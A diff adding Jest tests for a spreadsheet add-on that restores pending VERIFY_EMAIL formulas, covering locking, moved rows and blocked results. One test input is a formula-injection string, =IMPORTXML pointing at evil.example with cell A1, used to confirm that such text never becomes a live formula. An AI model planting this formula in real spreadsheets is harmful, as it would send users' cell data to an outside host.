@@ -1,5 +1,6 @@
 import { beforeEach, describe, expect, test } from "@jest/globals";
 import { finishFormulas } from "../../../src/formulas/finish";
+import { rowPrints } from "../../../src/formulas/held-formulas";
 import type { Block } from "../../../src/formulas/sheet-formulas";
 import { createFakeClock } from "../support/fake-clock";
 import { createFakeSheet, expectToEnd, type FakeSheet, killAt } from "../support/fake-sheet";
@@ -196,5 +197,85 @@ describe("Finish formulas", () => {
     expect(sheet.shown().map((row) => row[1])).toEqual(["not finished", "x", "VALID"]);
     expect(sheet.formulaAt(1, 2)).toBe("=VERIFY_EMAIL(A1)");
     expect(told[told.length - 1]).toMatch(/^Finished 1 cell\. 1 left/);
+  });
+
+  test.each(['not finished: =IMPORTXML("https://evil.example",A1)', 'not finished: =VERIFY_EMAIL("ann@acme.example")'])(
+    "makes no formula of the text %j, wherever it stands",
+    (text) => {
+      const sheet = createFakeSheet(() => "not finished");
+      sheet.type(1, 1, [
+        ["company", `'${text}`],
+        [`'${text}`, "=VERIFY_EMAIL(A2)"],
+      ]);
+      finish(sheet);
+      expect([1, 2].map((row) => [1, 2].map((column) => sheet.formulaAt(row, column)))).toEqual([
+        ["", ""],
+        ["", "=VERIFY_EMAIL(A2)"],
+      ]);
+      expect(sheet.shown()[0]?.[1]).toBe(text);
+    },
+  );
+
+  test("puts back what a stopped execution has left, within the selection and in the same sheet only", () => {
+    const held = (sheet: number, row: number) => ({
+      sheet,
+      row,
+      column: 2,
+      formula: `=VERIFY_EMAIL(A${row})`,
+      rowPrint: rowPrints({ values: [[`person${row}@acme.example`]], formulas: [[""]] })[0],
+    });
+    const left = { by: "another", untilMs: 0, held: [held(1, 1), held(2, 2), held(1, 3)] };
+    properties.set("finish-formulas", JSON.stringify(left));
+    const sheet = createFakeSheet(() => "VALID");
+    sheet.type(1, 1, [["person1@acme.example"], ["person2@acme.example"], ["person3@acme.example"]]);
+    finish(sheet, { selection: { row: 2, column: 1, rows: 9, columns: 2 } });
+    expect([1, 2, 3].map((row) => sheet.formulaAt(row, 2))).toEqual(["", "", "=VERIFY_EMAIL(A3)"]);
+    finish(sheet);
+    expect([1, 2, 3].map((row) => sheet.formulaAt(row, 2))).toEqual(["=VERIFY_EMAIL(A1)", "", "=VERIFY_EMAIL(A3)"]);
+    expect(JSON.parse(properties.get("finish-formulas") ?? "").held).toEqual([held(2, 2)]);
+  });
+
+  test("leaves what somebody has typed into a cell that was being finished", () => {
+    const left = {
+      by: "another",
+      untilMs: 0,
+      held: [{ sheet: 1, row: 1, column: 2, formula: "=VERIFY_EMAIL(A1)", rowPrint: "+1" }],
+    };
+    properties.set("finish-formulas", JSON.stringify(left));
+    const sheet = createFakeSheet(() => "VALID");
+    sheet.type(1, 2, [["mine"]]);
+    finish(sheet);
+    expect(sheet.shown()[0]?.[1]).toBe("mine");
+    expect(JSON.parse(properties.get("finish-formulas") ?? "").held).toEqual([]);
+  });
+
+  test("leaves it to one person at a time", () => {
+    const clock = createFakeClock();
+    properties.set("finish-formulas", JSON.stringify({ by: "another", untilMs: clock.nowMs() + 20_000, held: [] }));
+    const sheet = createFakeSheet(() => "not finished");
+    sheet.type(1, 2, [["=VERIFY_EMAIL(A1)"]]);
+    expect(finish(sheet, { clock })).toEqual([expect.stringMatching(/^Somebody is finishing formulas/)]);
+    expect(sheet.calls).toEqual([]);
+  });
+
+  test("keeps a formula that names other rows in its record when its row has moved, and says so", () => {
+    const sheet = createFakeSheet(() => "not finished");
+    sheet.type(1, 1, [["ann@acme.example", "=VERIFY_EMAIL($A$1)"]]);
+    sheet.onCall = (name) => {
+      if (name !== "flush" || sheet.formulaAt(1, 2) !== "" || sheet.shown()[0]?.[0] !== "ann@acme.example") return;
+      sheet.type(1, 1, [
+        ["new", ""],
+        ["ann@acme.example", ""],
+      ]);
+    };
+    const told = finish(sheet);
+    expect(sheet.formulaAt(1, 2)).toBe("");
+    expect(told[told.length - 1]).toMatch(/Not put back, because rows have moved: B1 =VERIFY_EMAIL\(\$A\$1\)/);
+  });
+
+  test("names the cell that leaves no room for a result", () => {
+    const sheet = createFakeSheet(() => "#REF!");
+    sheet.type(1, 2, [["=VERIFY_EMAIL(A1:A9)"], [""], ["mine"]]);
+    expect(finish(sheet)).toEqual(["No room for the result of B1 (B3 is in its way)."]);
   });
 });
